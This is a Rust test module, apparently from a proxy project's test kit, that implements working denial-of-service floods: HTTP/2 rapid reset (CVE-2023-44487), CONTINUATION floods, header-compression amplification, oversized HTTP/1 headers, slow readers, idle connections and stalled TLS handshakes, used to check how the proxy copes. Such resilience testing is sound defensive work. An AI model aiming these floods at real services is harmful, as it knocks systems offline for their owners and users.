//! Clients that don't mean well.

use std::cell::Cell;
use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use leno_testkit::frames::{END_HEADERS, END_STREAM, PREFACE};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, LocalSet};
use tokio::time::{Instant, timeout};

use super::clients::runtime;
use super::frames;

/// What a flood did.
#[derive(Clone, Copy, Debug, Default)]
pub(super) struct Account {
    /// Connections made.
    pub(super) connections: u64,
    /// Of these, the proxy ended so many.
    pub(super) ended: u64,
    /// Requests, handshakes or bytes sent, by what the flood is made of.
    pub(super) sent: u64,
    /// Answered 503.
    pub(super) refused: u64,
}

/// One flood at work.
pub(super) struct Attack {
    target: SocketAddr,
    until: Instant,
    account: Cell<Account>,
    /// The first bytes of a handshake.
    hello: Vec<u8>,
}

/// A flood: starts its clients.
pub(super) type Flood = fn(&Rc<Attack>, &mut Start<'_>);

/// Starts one of a flood's clients.
pub(super) type Start<'s> = dyn FnMut(Pin<Box<dyn Future<Output = ()>>>) + 's;

/// The longest that a flood goes on until it is enough; on a busy machine it takes its time to build up.
const AT_MOST: Duration = Duration::from_secs(20);

/// Lets a flood go on for so long and until it was enough, and then cuts all its connections.
pub(super) fn run(target: SocketAddr, lasts: Duration, enough: &dyn Fn() -> bool, flood: Flood) -> Account {
    let hello = client_hello();
    let local = LocalSet::new();
    local.block_on(&runtime(), async {
        let until = Instant::now() + lasts;
        let attack = Rc::new(Attack { target, until, account: Cell::default(), hello });
        let mut clients = JoinSet::new();
        flood(&attack, &mut |client| drop(clients.spawn_local(client)));
        let _elapsed = tokio::time::timeout_at(until, async {
            while let Some(ended) = clients.join_next().await {
                ended.unwrap();
            }
            std::future::pending::<()>().await
        })
        .await;
        while !enough() && until.elapsed() < AT_MOST {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        attack.account.get()
    })
}

impl Attack {
    fn count(&self, change: impl FnOnce(&mut Account)) {
        let mut account = self.account.get();
        change(&mut account);
        self.account.set(account);
    }

    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    /// A connection, or nothing after a pause.
    async fn connect(&self) -> Option<TcpStream> {
        let Ok(Ok(socket)) = timeout(Duration::from_secs(1), TcpStream::connect(self.target)).await else {
            tokio::time::sleep(Duration::from_millis(5)).await;
            return None;
        };
        self.count(|account| account.connections += 1);
        Some(socket)
    }

    fn sent(&self, count: u64) {
        self.count(|account| account.sent += count);
    }

    fn ended(&self) {
        self.count(|account| account.ended += 1);
    }
}

/// Reads and drops until the connection ends.
async fn discard(read: &mut (impl tokio::io::AsyncRead + Unpin)) {
    let mut bytes = vec![0; 16 * 1024];
    while matches!(read.read(&mut bytes).await, Ok(1..)) {}
}

/// Sends `rounds` on connections of HTTP/2, one connection after the other, each until the proxy ends it. A round is
/// made from the next stream's number, and says how many streams and how much of the account it is.
async fn rounds(attack: Rc<Attack>, round: impl Fn(u32) -> (Vec<u8>, u32, u64), pause: Option<Duration>) {
    while attack.goes_on() {
        let Some(socket) = attack.connect().await else { continue };
        let (mut read, mut write) = socket.into_split();
        let sending = async {
            write.write_all(PREFACE).await?;
            let mut stream = 1;
            loop {
                let (bytes, streams, sent) = round(stream);
                write.write_all(&bytes).await?;
                attack.sent(sent);
                stream += 2 * streams;
                match pause {
                    Some(pause) => tokio::time::sleep(pause).await,
                    None => tokio::task::yield_now().await,
                }
                if stream > 1_000_000 {
                    return Ok::<_, std::io::Error>(());
                }
            }
        };
        tokio::select! {
            _ = sending => {}
            () = discard(&mut read) => {}
        }
        attack.ended();
    }
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) fn resets(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for _ in 0..4 {
        let head = frames::get("/delay/1000");
        let round = move |first: u32| {
            let streams = (0..32).map(|at| first + 2 * at);
            let pair = |stream| {
                [frames::headers(stream, END_HEADERS | END_STREAM, &head), frames::reset(stream)].concat()
            };
            (streams.flat_map(pair).collect(), 32, 32)
        };
        start(Box::pin(rounds(Rc::clone(attack), round, None)));
    }
}

/// Requests that are taken back when they have reached the upstream: the resets of a round come with the next one.
pub(super) fn late_resets(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for _ in 0..2 {
        let head = frames::get("/delay/1000");
        let round = move |first: u32| {
            let mut bytes = Vec::new();
            for at in 0..16 {
                let stream = first + 2 * at;
                if let Some(before) = stream.checked_sub(32) {
                    bytes.extend(frames::reset(before));
                }
                bytes.extend(frames::headers(stream, END_HEADERS | END_STREAM, &head));
            }
            (bytes, 16, 16)
        };
        start(Box::pin(rounds(Rc::clone(attack), round, Some(Duration::from_millis(20)))));
    }
}

/// Heads that never end (CVE-2024-27316 and its like).
pub(super) fn continuation(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for _ in 0..4 {
        let head = frames::get("/");
        let field = frames::literal(b'x', 8000);
        let round = move |first: u32| {
            let bytes = match first {
                1 => frames::headers(1, END_STREAM, &head),
                _ => frames::continuation(1, &field),
            };
            let sent = bytes.len() as u64;
            (bytes, 1, sent)
        };
        start(Box::pin(rounds(Rc::clone(attack), round, None)));
    }
}

/// Heads over HTTP/1 that are as long as they may be, but for their end.
pub(super) fn long_heads(attack: &Rc<Attack>, start: &mut Start<'_>) {
    let head: Arc<str> =
        format!("GET / HTTP/1.1\r\nHost: web\r\n{}", format!("x: {}\r\n", "v".repeat(1000)).repeat(58))
            .into();
    for _ in 0..1500 {
        let (attack, head) = (Rc::clone(attack), Arc::clone(&head));
        start(Box::pin(async move {
            let Some(mut socket) = attack.connect().await else { return };
            let _cut = socket.write_all(head.as_bytes()).await;
            attack.sent(1);
            let mut answer = [0; 12];
            if socket.read_exact(&mut answer).await.is_ok() && answer.ends_with(b"503") {
                attack.count(|account| account.refused += 1);
            }
        }));
    }
}

/// Heads of a few bytes that repeat a large field of the table, on streams whose bodies never come.
pub(super) fn packed_heads(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for _ in 0..20 {
        let attack = Rc::clone(attack);
        start(Box::pin(async move {
            let Some(mut socket) = attack.connect().await else { return };
            let mut block = frames::get("/delay/5000");
            let repeated = [0xbe; 13];
            let mut bytes = PREFACE.to_vec();
            let first = [&block[..], &frames::inserted(b'x', 4000)].concat();
            bytes.extend(frames::headers(1, END_HEADERS, &first));
            block.extend(repeated);
            bytes.extend((1..150).flat_map(|at| frames::headers(2 * at + 1, END_HEADERS, &block)));
            let _cut = socket.write_all(&bytes).await;
            attack.sent(150);
            discard(&mut socket).await;
            attack.ended();
        }));
    }
}

/// Clients that ask for much and read nothing, over HTTP/1 and HTTP/2, with windows small and large.
pub(super) fn slow_readers(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for _ in 0..50 {
        let attack = Rc::clone(attack);
        start(Box::pin(async move {
            let Some(mut socket) = attack.connect().await else { return };
            let _cut = socket.write_all(b"GET /bytes/100000000 HTTP/1.1\r\nHost: web\r\n\r\n").await;
            std::future::pending::<()>().await;
        }));
    }
    for at in 0..12 {
        let attack = Rc::clone(attack);
        start(Box::pin(async move {
            let Some(mut socket) = attack.connect().await else { return };
            let mut bytes = PREFACE.to_vec();
            if at % 2 == 0 {
                bytes.extend(frames::all_windows());
            }
            let head = frames::get("/bytes/100000000");
            bytes
                .extend((0..100).flat_map(|at| frames::headers(2 * at + 1, END_HEADERS | END_STREAM, &head)));
            let _cut = socket.write_all(&bytes).await;
            attack.sent(100);
            std::future::pending::<()>().await;
        }));
    }
}

/// Connections that say nothing, that stop within a request, or that idle after one.
pub(super) fn idle_connections(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for at in 0..600 {
        let attack = Rc::clone(attack);
        let bytes: &[u8] = match at % 6 {
            0 => b"GET / HTTP/1.1\r\nHost: web\r\n",
            1 => PREFACE,
            2 => b"GET /healthz HTTP/1.1\r\nHost: web\r\n\r\n",
            _ => b"",
        };
        start(Box::pin(async move {
            while attack.goes_on() {
                let Some(mut socket) = attack.connect().await else { continue };
                let _cut = socket.write_all(bytes).await;
                discard(&mut socket).await;
                attack.ended();
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }));
    }
}

/// Handshakes that don't begin, that stop within the ClientHello, or after it.
pub(super) fn handshakes(attack: &Rc<Attack>, start: &mut Start<'_>) {
    for at in 0..600 {
        let attack = Rc::clone(attack);
        start(Box::pin(async move {
            let Some(mut socket) = attack.connect().await else { return };
            let part = attack.hello.len() * (at % 3) / 3;
            let _cut = socket.write_all(&attack.hello[..part]).await;
            discard(&mut socket).await;
        }));
    }
    for _ in 0..16 {
        let attack = Rc::clone(attack);
        start(Box::pin(async move {
            let mut held = Vec::new();
            while attack.goes_on() {
                let Some(mut socket) = attack.connect().await else { continue };
                let _cut = socket.write_all(&attack.hello).await;
                attack.sent(1);
                // Once the answer begins, it has cost what it costs.
                let _answered = timeout(Duration::from_secs(1), socket.read_u8()).await;
                held.push(socket);
                if held.len() > 50 {
                    held.clear();
                }
            }
        }));
    }
}

/// What a client of the mesh sends first.
fn client_hello() -> Vec<u8> {
    let mut config = rustls::ClientConfig::builder()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    config.alpn_protocols = vec![b"leno/1".to_vec()];
    let name = rustls::pki_types::ServerName::try_from("mesh").unwrap();
    let mut client = rustls::ClientConnection::new(Arc::new(config), name).unwrap();
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes).unwrap();
    bytes
}
